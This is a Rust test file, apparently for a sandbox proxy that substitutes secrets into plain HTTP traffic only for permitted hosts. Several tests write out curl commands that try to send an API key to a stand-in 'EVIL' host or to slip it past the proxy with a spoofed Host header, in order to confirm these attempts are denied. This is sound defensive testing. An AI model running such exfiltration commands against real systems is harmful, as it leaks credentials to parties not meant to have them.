//! Secrets in plain HTTP: only those that say so, only where TLS is intercepted or at port 80, and
//! by every other rule that holds inside TLS.

use std::io::{Read, Write};
use std::net::Shutdown;
use std::process::Stdio;
use std::time::Duration;

use serde_json::{Value, json};
use socket2::SockRef;

use super::{EVIL, GOOD, Site, VALUE, command, config, events, has, run};
use crate::guest::ConfigFile;
use crate::needs;
use crate::process::Process;

/// What must never leave in the clear.
const PROVEN: &str = "of-a-server-that-has-proven-its-name";

/// A configuration in which `API_KEY` may go to [`GOOD`] in the clear, and `PROVEN` may not.
fn open(site: &Site) -> Value {
    let all = json!({"headers": true, "query": true, "body": true});
    let secrets = json!([
        {"env_var": "API_KEY", "value": VALUE, "allowed_hosts": [GOOD], "substitution": all,
            "require_tls_identity": false},
        {"env_var": "PROVEN", "value": PROVEN, "allowed_hosts": [GOOD], "substitution": all},
    ]);
    config(site, json!({"secrets": {"secrets": secrets}}))
}

/// `curl` of a path under `name`, in the clear.
fn curl(site: &Site, name: &str, words: &str) -> String {
    format!("curl -sS -m 20 {words} -w '\\n%{{http_code}}' http://{name}:{}/p", site.port)
}

#[test]
fn a_secret_that_says_so_goes_to_its_server_in_the_clear() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    for (what, words, sent) in [
        ("a field", r#"-H "Authorization: Bearer $API_KEY""#, "Bearer VALUE"),
        ("Basic", r#"-u "me:$API_KEY""#, "Basic bWU6c2stbGl2ZS0wMTIzNDU2Nzg5YWJjZGVm"),
        ("the query", r#"-G --data-urlencode "k=$API_KEY""#, "k=VALUE"),
        ("a form", r#"--data-urlencode "k=$API_KEY""#, "k=VALUE"),
        ("chunks", r#"-H 'Transfer-Encoding: chunked' -d "a $API_KEY b""#, "a VALUE b"),
    ] {
        let site = Site::in_the_clear();
        let finished = run(&open(&site), &curl(&site, GOOD, words));
        assert!(finished.output.ends_with("\n200"), "{what}: {finished:?}");
        assert!(!finished.output.contains(VALUE), "{what}: it comes back as a placeholder");
        assert!(events(&finished).is_empty(), "{what}: {finished:?}");
        let heard = site.heard();
        assert!(has(&heard, sent.replace("VALUE", VALUE).as_bytes()), "{what}: {finished:?}");
        assert!(!has(&heard, b"MSB_API_KEY"), "{what}: no placeholder");
    }
}

#[test]
fn one_that_wants_a_proof_and_one_for_somebody_else_never_leave() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    for (secret, name, place, words) in [
        ("PROVEN", GOOD, "header", r#"-H "X: $PROVEN""#),
        ("PROVEN", GOOD, "body", r#"-d "$PROVEN""#),
        ("API_KEY", EVIL, "header", r#"-H "X: $API_KEY""#),
        ("API_KEY", EVIL, "query", r#"-G --data-urlencode "k=$API_KEY""#),
        ("API_KEY", EVIL, "body", r#"-d "$API_KEY""#),
    ] {
        let site = Site::in_the_clear();
        let finished = run(&open(&site), &curl(&site, name, words));
        assert!(finished.output.ends_with("\n403"), "{secret} {place}: {finished:?}");
        assert!(finished.output.contains("secret_policy_denied"), "{finished:?}");
        let events = events(&finished);
        assert_eq!((events.len(), &events[0]["secret"]), (1, &json!(secret)), "{finished:?}");
        assert_eq!(events[0]["place"], place);
        assert!(!has(&site.heard(), b"/p"), "nothing of it has left");
    }
}

#[test]
fn whom_a_request_is_for_must_be_clear_and_where_it_was_led() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    // The name of the host, at an address to which nobody said that it leads.
    let site = Site::in_the_clear();
    let elsewhere = curl(&site, "$MSB_GATEWAY", r#"-H "X: $API_KEY" -H "Host: good.test:PORT""#);
    let elsewhere = elsewhere.replace("PORT", &site.port.to_string());
    let script =
        format!("MSB_GATEWAY=$(getent ahostsv4 {GOOD} | awk 'NR == 1 {{print $1}}'); {elsewhere}");
    let mut config = open(&site);
    config["secrets"]["secrets"][0]["allowed_hosts"] = json!(["good.test"]);
    let finished = run(&config, &script);
    assert!(finished.output.ends_with("\n403"), "{finished:?}");
    assert!(!has(&site.heard(), b"/p") && !has(&site.heard(), VALUE.as_bytes()));
    // A second request on the connection is for the first one's host, or for nobody.
    let site = Site::in_the_clear();
    let words = |name| format!("-H \"X: $API_KEY\" -H 'Host: {name}:{}'", site.port);
    let both = format!(
        "{} --next {}",
        curl(&site, GOOD, &words(GOOD)),
        curl(&site, GOOD, &words(EVIL)).trim_start_matches("curl ")
    );
    let finished = run(&open(&site), &both);
    assert!(finished.output.ends_with("\n421"), "{finished:?}");
    assert_eq!(site.handshakes(), 1, "it is one connection");
    assert_eq!(events(&finished)[0]["reason"], "authority", "{finished:?}");
    let asked = memchr::memmem::find_iter(&site.heard(), VALUE).count();
    assert_eq!(asked, 2, "the first, as it was said and as it was meant");
}

#[test]
fn without_such_a_secret_nothing_in_the_clear_is_looked_at_or_changed() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    let site = Site::in_the_clear();
    let mut config = open(&site);
    config["secrets"]["secrets"][0]["require_tls_identity"] = json!(true);
    let finished = run(&config, &curl(&site, GOOD, r#"-H "X: $API_KEY""#));
    assert!(finished.output.ends_with("\n200"), "{finished:?}");
    assert!(has(&site.heard(), b"X: $MSB_API_KEY\r\n"), "what the guest has, and nobody else");
    assert!(!has(&site.heard(), VALUE.as_bytes()));
}

#[test]
fn what_is_no_http_passes_and_a_placeholder_in_it_does_not() {
    if !needs::are_met(&["python3"]) {
        return;
    }
    let listener = std::net::TcpListener::bind("[::]:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut heard = Vec::new();
        let mut bytes = [0; 1000];
        while let Ok(len @ 1..) = stream.read(&mut bytes) {
            heard.extend_from_slice(&bytes[..len]);
            let _ = stream.write_all(&bytes[..len]);
        }
        heard
    });
    let mut site = Site::in_the_clear();
    site.port = port;
    let file = ConfigFile::new(&open(&site));
    let mut command = command(&file, "exec python3 - $0 $1");
    let mut process = Process::start(command.args([GOOD, &port.to_string()]).stdin(Stdio::piped()));
    let script = r#"
import socket, sys
stream = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=20)
stream.sendall(b"\x01\x02 word")
print(stream.recv(100))
stream.sendall(b"a $MSB_API")
print(stream.recv(100))
stream.sendall(b"_KEY")
try:
    print(stream.recv(100))
except ConnectionError as error:
    print("reset")
"#;
    process.take_input().write_all(script.as_bytes()).unwrap();
    let finished = process.finish();
    let expected = "b'\\x01\\x02 word'\nb'a $MSB_API'\nreset\n";
    assert_eq!(finished.output, expected, "{finished:?}");
    assert_eq!(server.join().unwrap(), b"\x01\x02 worda $MSB_API");
    assert_eq!(events(&finished)[0]["place"], "stream", "{finished:?}");
}

#[test]
fn a_server_that_has_finished_hears_on_and_its_reset_is_the_guests() {
    if !needs::are_met(&["python3"]) {
        return;
    }
    let listener = std::net::TcpListener::bind("[::]:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream.write_all(b"bye").unwrap();
        stream.shutdown(Shutdown::Write).unwrap();
        let mut heard = [0; 6];
        stream.read_exact(&mut heard).unwrap();
        SockRef::from(&stream).set_linger(Some(Duration::ZERO)).unwrap();
        heard
    });
    let mut site = Site::in_the_clear();
    site.port = port;
    let file = ConfigFile::new(&open(&site));
    let script = r#"
import select, socket, sys
stream = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=20)
stream.sendall(b"\x01\x02")
print(stream.recv(100), stream.recv(100))
stream.sendall(b"more")
print("said", flush=True)
sys.stdin.readline()
stream.sendall(b"and more")
errors = select.poll()
errors.register(stream, 0)
print(len(errors.poll(15000)))
"#;
    let mut command = command(&file, "exec python3 -c \"$2\" $0 $1");
    command.args([GOOD, &port.to_string(), script]).stdin(Stdio::piped());
    let mut process = Process::start(&mut command);
    process.wait_for("said\n");
    assert_eq!(&server.join().unwrap(), b"\x01\x02more", "all that was said behind its end");
    process.take_input().write_all(b"\n").unwrap();
    let finished = process.finish();
    assert_eq!(finished.output, "b'bye' b''\nsaid\n1\n", "{finished:?}");
}
